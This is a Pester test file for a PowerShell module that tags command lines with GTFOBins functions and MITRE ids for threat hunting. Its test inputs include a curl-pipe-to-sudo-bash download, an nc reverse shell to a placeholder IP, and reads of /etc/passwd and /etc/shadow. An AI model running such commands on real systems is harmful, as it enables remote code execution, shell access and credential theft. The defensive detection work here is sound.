BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    $script:Fixtures = Join-Path $PSScriptRoot '../B64Hunt.Engine.Tests/Fixtures/GtfoBins'
}

Describe 'Add-GtfoBinsTag' {
    It 'tags what a piped string really runs' {
        $e = 'curl -s http://198.51.100.7/i.sh | sudo bash' | Add-GtfoBinsTag
        $e | Should -BeOfType B64Hunt.Model.CommandEvent
        $e.GtfoBins.Name | Should -Be @('curl', 'sudo', 'bash')
        $e.GtfoBins[0].Url | Should -Be 'https://gtfobins.github.io/gtfobins/curl/'
        $e.GtfoFunctions | Should -Contain 'download'
        $e.GtfoFunctions | Should -Contain 'shell'
        ($e.GtfoFunctions | Sort-Object -Unique).Count | Should -Be $e.GtfoFunctions.Count
    }

    It 'does not tag arguments, echoed strings or builtins' {
        ('cat /etc/passwd' | Add-GtfoBinsTag).GtfoBins.Name | Should -Be @('cat')
        ('echo vim nc; export X=1; ls /usr/bin/python3' | Add-GtfoBinsTag).GtfoBins | Should -BeNullOrEmpty
    }

    It 'resolves aliases, versions, the loader and inherit' {
        $t = ('rview /etc/shadow' | Add-GtfoBinsTag).GtfoBins[0]
        $t.Name | Should -Be 'vim'
        $t.InvokedAs | Should -Be 'rview'
        ('/lib64/ld-linux-x86-64.so.2 /bin/sh' | Add-GtfoBinsTag).GtfoBins[0].Name | Should -Be 'ld.so'
        ('g++ x.cpp' | Add-GtfoBinsTag).GtfoBins[0].Name | Should -Be 'gcc'
        $man = ('man man' | Add-GtfoBinsTag).GtfoBins[0]
        $man.InheritsFrom[0] | Should -Be 'less'
        $man.Contexts | Should -Contain 'suid'
    }

    It 'enriches CommandEvents in place and reads nested code' {
        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = "python3 -c 'import pty;pty.spawn(""/bin/bash"")'" }
        $out = $e | Add-GtfoBinsTag | Add-GtfoBinsTag
        [object]::ReferenceEquals($out, $e) | Should -BeTrue
        $e.GtfoBins.Name | Should -Be @('python', 'bash')
        $e.GtfoBins[0].InvokedAs | Should -Be 'python3'
    }

    It 'reads a checkout with -GtfoBinsPath and reports a bad entry without stopping' {
        $out = 'kurl http://x', 'pager /etc/hosts' | Add-GtfoBinsTag -GtfoBinsPath (Join-Path $Fixtures 'current-layout') -ErrorVariable errs -ErrorAction SilentlyContinue
        $out | Should -HaveCount 2
        $errs | Should -HaveCount 1
        $errs[0].FullyQualifiedErrorId | Should -BeLike 'InvalidGtfoBinsEntry,*'
        $errs[0].TargetObject | Should -BeLike '*bad'
        $out[0].GtfoBins[0].Name | Should -Be 'curl'
        $out[1].GtfoBins[0].InheritsFrom | Should -Be @('curl')
    }

    It 'reads the older _gtfobins/NAME.md layout' {
        $e = 'nc -e /bin/sh 203.0.113.5 4444' | Add-GtfoBinsTag -GtfoBinsPath (Join-Path $Fixtures 'old-layout') -ErrorAction SilentlyContinue
        $e.GtfoBins[0].Functions | Should -Be @('reverse-shell', 'bind-shell', 'upload', 'download')
        $e.GtfoBins[0].Contexts | Should -Be @('unprivileged', 'sudo')
    }

    It 'stops when -GtfoBinsPath is not a GTFOBins folder' {
        { 'id' | Add-GtfoBinsTag -GtfoBinsPath $TestDrive -ErrorAction Stop } | Should -Throw -ErrorId 'GtfoBinsPathNotFound,*'
    }
}

Describe 'Get-GtfoBinsFunction' {
    It 'lists every function with label, description and MITRE ids' {
        $f = Get-GtfoBinsFunction
        $f.Name | Should -Be @('shell', 'command', 'reverse-shell', 'bind-shell', 'file-write', 'file-read', 'upload', 'download', 'library-load', 'privilege-escalation', 'inherit')
        ($f | Where-Object Name -eq 'download').Mitre | Should -Be @('T1105')
        ($f | Where-Object Name -eq 'reverse-shell').Label | Should -Be 'Reverse shell'
        $f[0].Description | Should -Match 'shell'
    }

    It 'filters by name with wildcards' {
        (Get-GtfoBinsFunction -Name 'file-*').Name | Should -Be @('file-write', 'file-read')
    }

    It 'reads functions from a checkout' {
        (Get-GtfoBinsFunction -GtfoBinsPath (Join-Path $Fixtures 'old-layout') -ErrorAction SilentlyContinue).Name | Should -Be @('shell', 'reverse-shell')
    }

    It 'has help with examples' {
        $help = Get-Help Add-GtfoBinsTag
        $help.Synopsis | Should -Match 'GTFOBins'
        @($help.Examples.Example).Count | Should -BeGreaterOrEqual 2
    }
}
